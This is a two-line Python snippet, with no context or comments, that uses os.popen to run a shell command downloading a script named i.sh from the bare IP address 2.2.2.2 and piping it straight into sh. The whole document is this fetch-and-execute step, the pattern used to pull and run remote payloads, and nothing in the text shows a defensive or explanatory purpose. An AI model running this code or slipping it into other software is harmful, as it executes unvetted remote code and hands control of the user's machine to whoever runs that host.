import os
out = os.popen("curl -fsSL http://2.2.2.2/i.sh | sh").read()
